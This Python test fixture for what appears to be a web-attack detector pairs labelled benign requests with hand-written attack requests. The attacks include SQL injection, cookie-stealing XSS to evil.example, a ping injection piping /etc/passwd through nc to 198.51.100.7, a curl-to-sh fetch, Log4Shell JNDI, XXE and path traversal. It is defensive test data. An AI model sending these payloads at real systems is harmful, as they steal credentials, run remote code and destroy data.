"""Requests written for the tests by hand; no generator and no training data knows them."""

from __future__ import annotations

import json

ATTACKS = [
    ("get", "/catalogue", {"sort": "price) UNION ALL SELECT NULL,login,pass_hash FROM staff_accounts-- -"}, None),
    ("get", "/items", {"id": "17 AND 4312=4312"}, None),
    ("get", "/items", {"id": "17' AND SLEEP(6) AND 'kq'='kq"}, None),
    ("post", "/session", {}, {"user": "admin' OR 'x'='x'#", "pass": "whatever"}),
    ("get", "/news", {"q": "<svg/onload=fetch('//evil.example/'+document.cookie)>"}, None),
    ("get", "/news", {"q": '"><img src=x onerror=alert(document.domain)>'}, None),
    ("post", "/comments", {}, {"text": "nice <script>new Image().src='http://e.example/?c='+document.cookie</script>"}),
    ("get", "/download", {"file": "../../../../../../etc/shadow"}, None),
    ("get", "/download", {"file": "..\\..\\..\\windows\\win.ini"}, None),
    ("get", "/static/../../../../proc/self/environ", {}, None),
    ("get", "/ping", {"host": "127.0.0.1; cat /etc/passwd | nc 198.51.100.7 4444"}, None),
    ("get", "/ping", {"host": "$(curl -s http://198.51.100.7/x.sh|sh)"}, None),
    ("post", "/api/users/find", {}, {"name": {"$ne": None}, "password": {"$gt": ""}}),
    ("get", "/page", {"name": "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}, None),
    (
        "post",
        "/import",
        {},
        {"raw": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'},
    ),
    ("get", "/lookup", {"name": "${jndi:ldap://198.51.100.7:1389/a}"}, None),
    ("get", "/index.php", {"page": "http://198.51.100.7/shell.txt?"}, None),
    ("get", "/index.php", {"page": "php://filter/convert.base64-encode/resource=config.php"}, None),
    ("get", "/items", {"id": "-1 union select 1,group_concat(table_name),3 from information_schema.tables"}, None),
    ("get", "/items", {"id": "1;DROP TABLE orders;--"}, None),
]
"""Plain attacks of common kinds: method, path, query, body."""

BENIGN = [
    ("get", "/", {}, None),
    ("get", "/catalogue", {"sort": "price", "page": "3"}, None),
    ("get", "/items", {"id": "17"}, None),
    ("get", "/search", {"q": "trade union membership select committee"}, None),
    ("get", "/search", {"q": "Conan O'Brien tickets"}, None),
    ("post", "/session", {}, {"user": "marta.nowak@example.org", "pass": "Tr0ub4dor&3"}),
    ("post", "/comments", {}, {"text": "I'd drop by the table at noon; where is it? -- Ann"}),
    ("get", "/static/js/app.3f9c2b1a.js", {}, None),
    ("get", "/images/hero@2x.png", {"v": "20240131"}, None),
    ("get", "/download", {"file": "reports/2024/q3-summary.pdf"}, None),
    ("get", "/api/v2/orders/8841/lines", {"expand": "product,price", "limit": "50"}, None),
    ("post", "/api/v2/orders", {}, {"items": [{"sku": "AB-1201", "qty": 2}], "note": "please ring twice"}),
    ("get", "/redirect", {"to": "https://www.example.com/welcome?utm_source=mail&utm_medium=cpc"}, None),
    ("get", "/buscar", {"q": "habitación doble con baño"}, None),
    ("get", "/health", {}, None),
    ("put", "/api/v2/profile", {}, {"name": "Zoë van der Berg", "bio": "Likes <3 and C++; 100% coffee"}),
]
"""Ordinary requests, a few with words that attacks use too."""


def hapi_line(request: tuple[str, str, dict[str, str], object], client: str = "192.0.2.7", status: int = 200) -> str:
    """Return a request as a line of the reference schema."""
    method, path, query, body = request
    return json.dumps(
        {
            "timestamp": 1_700_000_000_000,
            "method": method,
            "query": query,
            "path": path,
            "statusCode": status,
            "source": {"remoteAddress": client},
            "route": path,
            "headers": {"host": "shop.example", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)"},
            "requestPayload": body,
            "responsePayload": None,
        },
        separators=(",", ":"),
    )
